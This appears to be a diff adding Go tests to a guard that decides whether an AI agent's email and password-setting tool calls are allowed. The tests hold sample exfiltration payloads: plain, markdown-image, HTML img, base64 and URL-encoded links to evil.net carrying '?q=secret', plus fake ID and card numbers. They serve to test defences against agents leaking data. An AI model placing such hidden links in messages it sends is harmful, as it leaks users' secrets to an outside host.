@@ -2,6 +2,7 @@ package decision
 
 import (
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -159,4 +160,48 @@ func TestAnEndedSessionIsNotObserved(t *testing.T) {
 	if _, err := r.engine.Observe(t.Context(), watcher, o); reasonOf(err) != "SESSION_ENDED" {
 		t.Errorf("got %v", err)
 	}
+}
+
+func TestThreat_A10_ALinkInTextIsASinkOfItsOwn(t *testing.T) {
+	r := newRoom(t, proving())
+	r.observe(origin.User, "Send bob@example.com the address https://docs.example.com/plan")
+	mail := func(body string) Request {
+		return call("mailer", "send_email", `{"to": "bob@example.com", "body": `+strconv.Quote(body)+`}`)
+	}
+	r.want(Allow, "", mail("See https://docs.example.com/plan."))
+	for _, body := range []string{
+		"See https://evil.net/?q=secret", "![x](https://evil.net/p.png?q=1)", `<img src="http://evil.net/a">`, "[a]: https://evil.net/a",
+		"see www.evil.net", "see evil.net/a", "aHR0cHM6Ly9ldmlsLm5ldC9hYmM/cT1zZWNyZXQ=", "https%3A%2F%2Fevil.net%2Fabc",
+		"See https://docs.example.com/plan and https://docs.example.com/plan2",
+	} {
+		if said := r.decide(mail(body)); said.Effect != RequireApproval {
+			t.Errorf("%s: %s", body, said.Effect)
+		}
+	}
+}
+
+// That the user gave a link in a text does not make the text the user's: what else is in it is still looked at.
+func TestALinkOfTheUsersDoesNotSpareItsText(t *testing.T) {
+	r := newRoom(t, proving())
+	r.observe(origin.User, "Send bob@example.com the address https://docs.example.com/plan")
+	said := r.decide(call("mailer", "send_email", `{"to": "bob@example.com", "body": "https://docs.example.com/plan 078-05-1120 and card 4111 1111 1111 1111"}`))
+	if said.Effect == Allow {
+		t.Errorf("allowed, with %v", said.Findings)
+	}
+}
+
+func TestAPasswordOfTheUsersMayBeSet(t *testing.T) {
+	r := newRoom(t, func(r *room) {
+		proving()(r)
+		r.holder.Swap(tuned(t, map[string]any{
+			"agents":   map[string]any{"agents": []any{map[string]any{"agent": "mailer", "profile": "mailer"}}},
+			"profiles": map[string]any{"profiles": []any{map[string]any{"name": "mailer", "strictness": 1, "approve_high": "unless_proven", "tools": []any{"update_password", "send_email"}}}},
+		}))
+	})
+	set := func(tool, field, value string) Request { return call("mailer", tool, `{"`+field+`": "`+value+`"}`) }
+	r.want(Deny, "CREDENTIAL_FOUND", set("update_password", "password", "1j1l-2k3j"))
+	r.observe(origin.User, "update the password to '1j1l-2k3j'")
+	r.want(Allow, "", set("update_password", "password", "1j1l-2k3j"))
+	r.want(Deny, "CREDENTIAL_FOUND", set("update_password", "password", "9x9y-8z7w"))
+	r.want(Deny, "CREDENTIAL_FOUND", set("send_email", "password", "1j1l-2k3j"))
 }
